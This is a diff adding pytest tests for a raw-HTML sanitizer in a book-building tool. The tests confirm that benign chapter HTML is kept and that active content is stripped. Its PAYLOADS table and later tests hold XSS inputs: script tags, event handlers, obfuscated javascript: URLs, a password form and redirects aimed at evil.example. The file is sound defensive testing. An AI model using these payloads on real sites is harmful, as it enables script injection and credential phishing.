@@ -1,0 +1,118 @@
+"""The allow-list raw HTML from a chapter is cleaned with, and where a chapter writes raw HTML."""
+
+from __future__ import annotations
+
+import pytest
+from docutils import nodes
+
+from polybook.dialect import parse_text
+from polybook.dialect.raw_html import active_parts, clean, clean_pieces, raw_html
+from polybook.stage.safe_html import clean_doctree, unsafe_links
+
+#: What d2l's chapters and front pages write: kept as written.
+BENIGN = [
+    '<div align="center"><img width="200" src="static/frontpage/_images/eq.jpg"></div>',
+    '<h5 align="center"><i>The best way to understand deep learning is learning by doing.</i></h5>',
+    "<p>“A quote”</p><b>&mdash; Someone, Somewhere</b>",
+    '<a href="https://d2l.ai/">d2l</a><br><sup>1</sup><sub>2</sub><center>x</center>',
+    '<table><tbody><tr><td colspan="2" align="left">a</td></tr></tbody></table>',
+    '<p style="text-align:center">centred</p>',
+    '<img src="https://d2l.ai/_images/map.png" alt="map" width="400">',
+]
+
+
+@pytest.mark.parametrize("html", BENIGN)
+def test_benign_html_is_kept_as_written(html: str) -> None:
+    assert clean(html) == html.replace("&mdash;", "\u2014")
+    assert active_parts(html) == []
+
+
+#: payload -> what is left of it
+PAYLOADS = {
+    "<script>window.pwned = 1</script>after": "after",
+    '<img src="x" onerror="window.pwned = 1">': '<img src="x">',
+    '<a href="javascript:window.pwned = 1">x</a>': "<a>x</a>",
+    '<a href=" JaVa\tScRiPt:alert(1)">x</a>': "<a>x</a>",
+    '<a href="&#106;avascript:alert(1)">x</a>': "<a>x</a>",
+    '<iframe src="https://evil.example/"></iframe>': "",
+    '<svg onload="window.pwned = 1"></svg>': "",
+    '<object data="x.swf"></object><embed src="x.swf">': "",
+    '<form action="https://evil.example/"><input name="password"><button>go</button></form>': "go",
+    "<style>body { display: none }</style>text": "text",
+    '<p style="position:fixed;top:0;color:red">x</p>': '<p style="color:red">x</p>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">': "",
+    '<base href="https://evil.example/">': "",
+    '<img src="data:text/html,<script>alert(1)</script>">': "<img>",
+    "<!-- a comment --><b>x</b>": "<b>x</b>",
+}
+
+
+#: Cleaned, but nothing that runs: the check says nothing of them.
+QUIET = ('<p style="position:fixed;top:0;color:red">x</p>', "<!-- a comment --><b>x</b>")
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_active_html_is_taken_out_and_told(payload: str) -> None:
+    assert clean(payload) == PAYLOADS[payload]
+    assert bool(active_parts(payload)) == (payload not in QUIET)
+
+
+def test_the_pieces_of_a_page_keep_their_pairs() -> None:
+    """A wrapper opened in one block and closed in another (Markdown between) stays a wrapper;
+    each piece alone would be closed at once and its end dropped."""
+    pieces = ['<div align="center">\n', "</div>\n", '<a href="javascript:x" onclick="y">', "</a>", "<sup>", "</sup>"]
+    assert clean_pieces(pieces) == ['<div align="center">\n', "</div>\n", "<a>", "</a>", "<sup>", "</sup>"]
+
+
+def test_a_script_between_pieces_costs_only_its_own_pairing() -> None:
+    pieces = ['<div align="center">', "</div>", "<script>", "</script>", "<b>", "</b>"]
+    assert clean_pieces(pieces) == ['<div align="center">', "</div>", "", "", "<b>", "</b>"]
+
+
+def test_a_piece_that_ends_inside_a_tag_cannot_take_the_page_in() -> None:
+    """The page's own HTML between two pieces never ends up inside an attribute."""
+    cleaned = clean_pieces(['<img src="a', 'b" onerror=alert(1)>'])
+    assert "onerror=" not in "".join(c for c in cleaned if "<" in c)
+    assert all(not c.startswith("<img") or c.endswith(">") for c in cleaned)
+
+
+def test_raw_html_is_found_where_markdown_sees_it_with_its_line() -> None:
+    doc = parse_text(
+        "# Title <b>x</b>\n\n"
+        "A tag <sup>1</sup>, not in `<code>` nor in $a<b>c$,\n"
+        "then <img src=x onerror=alert(1)>.\n\n"
+        "<div>\n<script>alert(1)</script>\n</div>\n\n"
+        "- an item\n\n  <iframe src=x></iframe>\n\n"
+        "```eval_rst\n.. raw:: html\n   :file: x.html\n\n.. raw:: html\n\n   <b>y</b>\n   <script>z</script>\n```\n",
+        "x.md",
+    )
+    found = [(piece.line, piece.kind, piece.html) for piece in raw_html(doc)]
+    assert found == [
+        (1, "inline", "<b>"),
+        (1, "inline", "</b>"),
+        (3, "inline", "<sup>"),
+        (3, "inline", "</sup>"),
+        (4, "inline", "<img src=x onerror=alert(1)>"),
+        (6, "block", "<div>\n<script>alert(1)</script>\n</div>"),
+        (12, "block", "<iframe src=x></iframe>"),
+        (20, "rst", "<b>y</b>\n<script>z</script>"),
+    ]
+    assert [(p.what, p.offset) for p in active_parts(found[5][2])] == [("<script>", 1)]
+
+
+def test_a_doctree_loses_its_active_html_and_links() -> None:
+    """What the site's Sphinx extension does to an untrusted page."""
+    doc = nodes.document(None, None)
+    para = nodes.paragraph()
+    para += nodes.raw("", '<div align="center">', format="html")
+    para += nodes.reference("", "click", refuri="javascript:alert(1)")
+    para += nodes.reference("", "d2l", refuri="https://d2l.ai/")
+    para += nodes.raw("", "<script>alert(1)</script></div>", format="html")
+    para += nodes.raw("", "\\input{x}", format="latex")
+    doc += para
+    doc += nodes.meta(content="0;url=https://evil.example/", **{"http-equiv": "refresh"})
+    clean_doctree(doc)
+    unsafe_links(doc)
+    assert [n.astext() for n in doc.findall(nodes.raw)] == ['<div align="center">', "</div>", "\\input{x}"]
+    assert [n["refuri"] for n in doc.findall(nodes.reference)] == ["https://d2l.ai/"]
+    assert "click" in para.astext() and not list(doc.findall(nodes.meta))
